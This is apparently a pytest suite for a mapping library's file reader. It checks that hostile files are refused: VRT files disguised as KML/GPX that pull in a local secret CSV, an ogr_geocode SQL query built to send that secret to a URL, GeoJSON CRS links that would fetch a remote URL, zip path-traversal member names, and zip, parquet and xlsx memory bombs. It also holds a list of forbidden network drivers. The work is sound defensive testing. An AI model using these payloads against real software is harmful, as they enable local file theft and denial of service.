"""Hostile files (issue 20, reading side): a stranger's file may not read other local files,
reach the network, escape an archive, exhaust memory or hang the reader.

Every fixture here is invented for the test (a "secret" CSV, VRT files, bombs); none is real data.
"""
import os
import socket
import threading
import zipfile

import pytest

import fixtures_io as fx
from jjjmap.io import LayerLoadError, convert, describe, open_layer

SECRET = "TOPSECRET-4711"   # invented marker: must never come out of a read


class Listener:
    """A TCP socket on 127.0.0.1 that records every connection made to it."""

    def __init__(self):
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(16)
        self.port = self.sock.getsockname()[1]
        self.accepted = 0                 # counted at accept time, in accept order
        self.flushes = 0
        self.requests: list[bytes] = []   # what the callers sent (for the failure message)
        threading.Thread(target=self._serve, daemon=True).start()

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.port}"

    def _serve(self):
        while True:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                return
            self.accepted += 1
            threading.Thread(target=self._handle, args=(conn, self.accepted), daemon=True).start()

    def _handle(self, conn, number):
        with conn:
            conn.settimeout(5)
            try:
                data = conn.recv(4096)
                if data.startswith(b"JJJMAP-FLUSH"):
                    conn.sendall(str(number - 1).encode() + b"\n")
                    return
                self.requests.append(data)
                conn.sendall(b"HTTP/1.0 404 Not Found\r\nContent-Length: 0\r\n\r\n")
            except OSError:
                pass

    def connections(self) -> int:
        """How many connections were made before this call: our own marker connection is
        accepted after every earlier one (the listen queue is in order), so no sleeping."""
        with socket.create_connection(("127.0.0.1", self.port), timeout=10) as c:
            c.sendall(b"JJJMAP-FLUSH")
            before = int(c.makefile().readline())
        earlier_flushes, self.flushes = self.flushes, self.flushes + 1
        return before - earlier_flushes

    def close(self):
        self.sock.close()


@pytest.fixture
def listener():
    srv = Listener()
    yield srv
    srv.close()


@pytest.fixture
def secret_csv(tmp_path):
    p = tmp_path / "private" / "people.csv"
    p.parent.mkdir()
    p.write_text(f"id,secret,lon,lat\n1,{SECRET},116.4,39.9\n", encoding="utf-8")
    return p


def vrt_text(secret_csv, sql=None) -> str:
    src = (f'<SrcSQL dialect="SQLite">{sql}</SrcSQL>' if sql else
           f"<SrcLayer>{secret_csv.stem}</SrcLayer>")
    return ("<OGRVRTDataSource>\n"
            '  <OGRVRTLayer name="marks">\n'
            f"    <SrcDataSource>{secret_csv}</SrcDataSource>\n"
            f"    {src}\n"
            "    <GeometryType>wkbPoint</GeometryType>\n"
            '    <GeometryField encoding="PointFromColumns" x="lon" y="lat"/>\n'
            "  </OGRVRTLayer>\n"
            "</OGRVRTDataSource>\n")


def _refused(fn, *args, **kwargs) -> str:
    with pytest.raises(LayerLoadError) as info:
        fn(*args, **kwargs)
    msg = str(info.value)
    assert SECRET not in msg
    return msg


@pytest.mark.parametrize("name", ["marks.kml", "walk.gpx"])
def test_vrt_disguised_as_kml_or_gpx_never_reads_the_local_file(tmp_path, secret_csv, name):
    evil = tmp_path / name
    evil.write_text(vrt_text(secret_csv), encoding="utf-8")
    msg = _refused(open_layer, evil)
    assert name in msg and "does not open" in msg
    _refused(describe, evil)
    out = tmp_path / "out.geojson"
    _refused(convert, evil, out)
    assert not out.exists()


def test_vrt_inside_kmz_and_zip_is_refused(tmp_path, secret_csv):
    for name, member in (("evil.kmz", "doc.kml"), ("evil.zip", "marks.gpx")):
        arc = tmp_path / name
        with zipfile.ZipFile(arc, "w") as zf:
            zf.writestr(member, vrt_text(secret_csv))
        _refused(open_layer, arc)
        _refused(describe, arc)


def test_vrt_with_ogr_geocode_sends_nothing(tmp_path, secret_csv, listener):
    sql = (f"SELECT id, lon, lat, ogr_geocode(secret, 'raw', "
           f"'QUERY_TEMPLATE={listener.url}/?q=%s', 'SERVICE=OSM_NOMINATIM') AS g FROM "
           f"{secret_csv.stem}")
    evil = tmp_path / "exfil.kml"
    evil.write_text(vrt_text(secret_csv, sql), encoding="utf-8")
    _refused(open_layer, evil)
    _refused(describe, evil)
    assert listener.connections() == 0, listener.requests


def test_no_vrt_or_network_driver_is_left(tmp_path):
    import pyogrio

    open_layer(fx.geojson(tmp_path))
    drivers = set(pyogrio.list_drivers())
    for name in ("OGR_VRT", "GML", "WFS", "OAPIF", "HTTP", "SQLite", "LIBKML", "CSV", "CSW",
                 "Elasticsearch", "Carto", "NGW", "PLSCENES", "EEDA", "OGCAPI", "GDALG"):
        assert name not in drivers
    assert {"ESRI Shapefile", "GeoJSON", "GPKG", "KML", "GPX", "FlatGeobuf"} <= drivers


def _link_geojson(path, url, where="collection"):
    crs = '{"type":"link","properties":{"href":"%s/beacon","type":"proj4"}}' % url
    geom = '{"type":"Point","coordinates":[116.4,39.9]%s}' % (
        ',"crs":' + crs if where == "geometry" else "")
    top = ',"crs":' + crs if where == "collection" else ""
    path.write_text('{"type":"FeatureCollection"%s,"features":[{"type":"Feature",'
                    '"properties":{"a":1},"geometry":%s}]}' % (top, geom), encoding="utf-8")
    return path


@pytest.mark.parametrize("where", ["collection", "geometry"])
def test_geojson_crs_link_is_never_fetched(tmp_path, listener, where):
    path = _link_geojson(tmp_path / f"beacon_{where}.geojson", listener.url, where)
    try:
        layers = open_layer(path)
        assert len(layers[0].gdf) == 1
    except LayerLoadError:
        pass  # refusing the file is fine too; calling out is not
    try:
        describe(path)
    except LayerLoadError:
        pass
    assert listener.connections() == 0, listener.requests


def test_geojson_crs_link_inside_zip_is_never_fetched(tmp_path, listener):
    inner = _link_geojson(tmp_path / "b.geojson", listener.url)
    arc = tmp_path / "beacon.zip"
    with zipfile.ZipFile(arc, "w") as zf:
        zf.write(inner, "b.geojson")
    try:
        open_layer(arc)
    except LayerLoadError:
        pass
    assert listener.connections() == 0, listener.requests


# -- archives (items 3 and 13) -------------------------------------------------------------
def _points_csv_text(label: str) -> str:
    return f"name,lon,lat\n{label},116.40,39.90\n"


@pytest.mark.parametrize("member", ["ABS", "../outside.csv", "sub/../../outside.csv",
                                    "..\\outside.csv"])
def test_zip_member_outside_the_folder_is_refused(tmp_path, secret_csv, member):
    member = str(secret_csv) if member == "ABS" else member
    # the file the member name points at exists and holds the secret
    (tmp_path / "outside.csv").write_text(f"name,lon,lat\n{SECRET},116.4,39.9\n")
    arc = tmp_path / "work" / "evil.zip"
    arc.parent.mkdir()
    with zipfile.ZipFile(arc, "w") as zf:
        zf.writestr(zipfile.ZipInfo(member), _points_csv_text("inside"))
    msg = _refused(open_layer, arc)
    assert "outside the archive" in msg
    _refused(describe, arc)


def test_zip_extracts_only_what_it_reads(tmp_path, monkeypatch):
    from jjjmap.io import archive

    arc = tmp_path / "mixed.zip"
    (tmp_path / "src").mkdir()
    shp = fx.shapefile(tmp_path / "src", "pts")
    with zipfile.ZipFile(arc, "w") as zf:
        for f in shp.parent.iterdir():
            zf.write(f, f"data/{f.name}")
        zf.writestr("big/filler.bin", b"\0" * 100_000)
        zf.writestr("notes.txt", "not a table")
    seen = []
    real = archive._extract
    monkeypatch.setattr(archive, "_extract",
                        lambda zf, info, *a: (seen.append(info.filename), real(zf, info, *a)))
    layers = open_layer(arc)
    assert len(layers[0].gdf) == len(fx.KNOWN)
    assert sorted(seen) == sorted(f"data/{f.name}" for f in shp.parent.iterdir())


def test_zip_unpack_budget_counts_real_bytes(tmp_path, monkeypatch):
    from jjjmap.io import archive

    arc = tmp_path / "bomb.zip"
    with zipfile.ZipFile(arc, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("big.csv", "name,lon,lat\n" + "x,116.4,39.9\n" * 200_000)
    monkeypatch.setattr(archive, "MAX_UNPACK_BYTES", 1 << 20)
    msg = _refused(open_layer, arc, memory_limit=1 << 40)
    assert "MiB" in msg and "bomb.zip" in msg


def test_zip_of_thousands_of_tables_is_not_thousands_of_layers(tmp_path):
    from jjjmap.io import archive

    arc = tmp_path / "many.zip"
    n = archive.MAX_LAYER_FILES * 15   # 3,000 with the default limit
    with zipfile.ZipFile(arc, "w") as zf:
        for i in range(n):
            zf.writestr(f"t{i:04d}.csv", _points_csv_text(f"p{i}"))
    msg = _refused(open_layer, arc)
    assert f"{n:,} data files" in msg and f"at most {archive.MAX_LAYER_FILES}" in msg
    # one of them can still be picked by name
    layers = open_layer(f"{arc}::t0042.csv")
    assert list(layers[0].gdf["name"]) == ["p42"]


# -- special files (item 18) ----------------------------------------------------------------
OPEN_SCRIPT = r"""
import sys
from jjjmap.io import JjjmapIOError, load_project, open_layer
try:
    (load_project if sys.argv[1] == "project" else open_layer)(sys.argv[2])
except JjjmapIOError as exc:
    print("REFUSED", exc)
else:
    print("OPENED")
"""


def _open_in_subprocess(path, what="layer") -> str:
    """open_layer / load_project in a child process: a regression that blocks on a FIFO
    cannot hang the suite (the timeout is a guard only; a correct refusal returns at once)."""
    import subprocess
    import sys

    out = subprocess.run([sys.executable, "-c", OPEN_SCRIPT, what, str(path)],
                         capture_output=True, text=True, timeout=120)
    return out.stdout


@pytest.mark.parametrize("name", ["pipe.csv", "pipe.geojson", "pipe.kml"])
def test_fifo_is_refused_without_blocking(tmp_path, name):
    fifo = tmp_path / name
    os.mkfifo(fifo)
    out = _open_in_subprocess(fifo)
    assert out.startswith("REFUSED") and "named pipe" in out and name in out, out


def test_fifo_sidecar_of_a_shapefile_is_refused(tmp_path):
    shp = fx.shapefile(tmp_path, "pts")
    shp.with_suffix(".cpg").unlink(missing_ok=True)
    os.mkfifo(shp.with_suffix(".cpg"))
    out = _open_in_subprocess(shp)
    assert out.startswith("REFUSED") and "named pipe" in out, out


def test_device_is_refused():
    msg = _refused(open_layer, "/dev/zero")
    assert "device" in msg


# -- memory bombs (item 10) -----------------------------------------------------------------
def _parquet_bomb(path, rows=400_000):
    """A few kB on disk, hundreds of MiB once read: one value repeated (dictionary + RLE)."""
    import numpy as np
    import pyarrow as pa
    import pyarrow.parquet as pq

    pq.write_table(pa.table({"name": pa.array(["invented bomb row"] * rows),
                             "lon": pa.array(np.full(rows, 116.4)),
                             "lat": pa.array(np.full(rows, 39.9))}), path, compression="zstd")
    return path


def _xlsx_bomb(path, rows=40_000):
    import openpyxl

    wb = openpyxl.Workbook(write_only=True)
    ws = wb.create_sheet("s")
    ws.append(["name", "lon", "lat"])
    for _ in range(rows):
        ws.append(["invented", 116.4, 39.9])
    wb.save(path)
    return path


@pytest.fixture
def no_read(monkeypatch):
    """Fails the test if the file's content is parsed at all."""
    from jjjmap.io import readers

    calls = []
    monkeypatch.setattr(readers, "_read_any", lambda *a, **k: calls.append(a) or [])
    return calls


def _limit_from_disk_size(path, factor):
    """What a guard judging by bytes on disk times the format's factor would let through."""
    return os.path.getsize(path) * factor + 1


def test_parquet_bomb_is_refused_before_it_is_read(tmp_path, no_read):
    bomb = _parquet_bomb(tmp_path / "bomb.parquet")
    rows = 400_000
    # the footer says 400,000 rows x 3 columns: far more than a few kB x 6
    msg = _refused(open_layer, bomb, memory_limit=max(_limit_from_disk_size(bomb, 6), rows * 100))
    assert "too large" in msg and "bomb.parquet" in msg
    assert no_read == []


def test_xlsx_bomb_is_refused_before_it_is_read(tmp_path, no_read):
    bomb = _xlsx_bomb(tmp_path / "bomb.xlsx")
    with zipfile.ZipFile(bomb) as zf:
        sheet_xml = zf.getinfo("xl/worksheets/sheet1.xml").file_size
    assert sheet_xml > 10 * os.path.getsize(bomb)   # the bomb: its XML compresses 10x and more
    msg = _refused(open_layer, bomb, memory_limit=max(_limit_from_disk_size(bomb, 30),
                                                      sheet_xml * 2))
    assert "too large" in msg
    assert no_read == []


def test_parquet_bomb_inside_a_zip_is_refused_before_it_is_read(tmp_path, no_read):
    bomb = _parquet_bomb(tmp_path / "bomb.parquet")
    arc = tmp_path / "bomb.zip"
    with zipfile.ZipFile(arc, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.write(bomb, "data/bomb.parquet")
    msg = _refused(open_layer, arc, memory_limit=max(
        os.path.getsize(bomb) * 8 + 1, 400_000 * 100))
    assert "too large" in msg
    assert no_read == []


def test_small_parquet_and_xlsx_still_open(tmp_path):
    (p,) = open_layer(_parquet_bomb(tmp_path / "few.parquet", rows=3))
    (x,) = open_layer(_xlsx_bomb(tmp_path / "few.xlsx", rows=3))
    assert len(p.gdf) == 3 and len(x.gdf) == 3


# -- headers and cancelling (item 11) -------------------------------------------------------
def test_repeated_header_names_are_renamed_before_pandas(tmp_path, monkeypatch):
    import pandas as pd

    from jjjmap.io import tables

    p = tmp_path / "dups.csv"
    n = 5_000
    p.write_text("lon,lat," + ",".join(["a"] * n) + "\n116.4,39.9" + ",1" * n + "\n")
    seen = []
    real = pd.read_csv
    monkeypatch.setattr(tables.pd, "read_csv", lambda *a, **k: seen.append(k) or real(*a, **k))
    (layer,) = open_layer(p)
    (kwargs,) = seen
    assert len(kwargs["names"]) == len(set(kwargs["names"])) == n + 2   # pandas renames none
    expected = ["lon", "lat", "a"] + [f"a.{i}" for i in range(1, n)]   # pandas' own scheme
    assert [c for c in layer.gdf.columns if c != "geometry"] == expected


def test_unique_headers_avoid_names_already_taken():
    from jjjmap.io.tables import unique_headers

    assert unique_headers(["a", "a", "a.1", " a ", "\ufeffb", "b"]) == [
        "a", "a.2", "a.1", "a.3", "b", "b.1"]


def test_header_with_too_many_columns_is_refused(tmp_path):
    from jjjmap.io import tables

    p = tmp_path / "wide.csv"
    n = tables.MAX_COLUMNS * 10   # 100,000 repeated names: minutes in pandas' renaming
    p.write_text("lon,lat," + ",".join(["a"] * n) + "\n116.4,39.9\n")
    msg = _refused(open_layer, p)
    assert f"{n + 2:,} columns" in msg


def test_cancel_stops_a_csv_read_between_chunks(tmp_path, monkeypatch):
    import pandas as pd

    from jjjmap.io import tables
    from jjjmap.io.cancel import LayerLoadCancelled

    monkeypatch.setattr(tables, "CSV_CHUNK_ROWS", 1_000)
    p = tmp_path / "long.csv"
    p.write_text("name,lon,lat\n" + "invented,116.4,39.9\n" * 10_000)   # 10 chunks
    chunks = []
    real = pd.io.parsers.TextFileReader.__next__
    monkeypatch.setattr(pd.io.parsers.TextFileReader, "__next__",
                        lambda self: chunks.append(1) or real(self))
    polls = []

    def cancelled():          # the user presses Cancel while the second chunk is read
        polls.append(1)
        return len(chunks) >= 2

    with pytest.raises(LayerLoadCancelled, match="cancelled"):
        open_layer(p, cancel=cancelled)
    assert len(chunks) == 2           # 8 of the 10 chunks were never parsed
    assert len(polls) == 2
    # without a cancel the same file reads whole, one frame from the 10 chunks
    chunks.clear()
    (layer,) = open_layer(p)
    assert len(layer.gdf) == 10_000 and len(chunks) == 11   # 10 chunks and the final stop


def test_cancel_stops_between_archive_members(tmp_path):
    from jjjmap.io.cancel import LayerLoadCancelled

    arc = tmp_path / "several.zip"
    with zipfile.ZipFile(arc, "w") as zf:
        for i in range(5):
            zf.writestr(f"t{i}.csv", _points_csv_text(f"p{i}"))
    polls = []
    with pytest.raises(LayerLoadCancelled):
        open_layer(arc, cancel=lambda: polls.append(1) or len(polls) > 1)
    assert len(polls) == 2


def test_project_layer_that_became_a_fifo_is_refused_without_blocking(tmp_path):
    from jjjmap.io import save_project
    from jjjmap.model import MapDocument

    data = tmp_path / "sites.csv"
    data.write_text(_points_csv_text("invented site"))
    doc = MapDocument()
    for lyr in open_layer(data):
        doc.add_layer(lyr)
    proj = save_project(doc, tmp_path / "p.jjjmap")
    data.unlink()
    os.mkfifo(data)
    out = _open_in_subprocess(proj, "project")
    assert out.startswith("REFUSED") and "named pipe" in out and "sites.csv" in out, out
